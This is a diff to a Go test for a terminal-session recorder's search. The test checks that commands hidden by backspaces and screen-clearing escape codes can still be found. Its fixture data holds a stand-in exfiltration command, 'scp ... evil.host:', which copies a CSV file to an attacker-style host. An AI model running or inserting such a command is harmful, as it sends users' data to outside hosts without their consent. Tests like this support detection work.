@@ -446,7 +446,7 @@ func TestSearchFindsCommandsThatNoLineHas(t *testing.T) {
 	record(t, dir, 1, "alice", true, shell(1,
 		"scp cohort-of-tinker.csv wrong:", "\b\b\b\b\b\b\x1b[K", "evil.host:\r\n\x1b[A\r\x1b[27Cother-text\r\n", "$ ", "\x1b[H\x1b[2J$ ", "", "n", "eedle.csv evil.host:", "\r\nnot found\r\n$ ")...)
 	same(t, "commands that no line has", found(t, dir, "csv evil", Query{}),
-		"01/1 +9s output: $ needle.csv evil.host:", "01/1 +4s commands: scp cohort-of-tinker.csv evil.host:")
+		"01/1 +9s output: $ needle.csv evil.host:", "01/1 +4s output: $ scp cohort-of-tinker.csv evil.host: passing", "01/1 +4s commands: scp cohort-of-tinker.csv evil.host:")
 	same(t, "commands alone", found(t, dir, "csv evil", Query{In: []Field{Commands}}),
 		"01/1 +4s commands: scp cohort-of-tinker.csv evil.host:", "01/1 +10s commands: needle.csv evil.host:")
 }
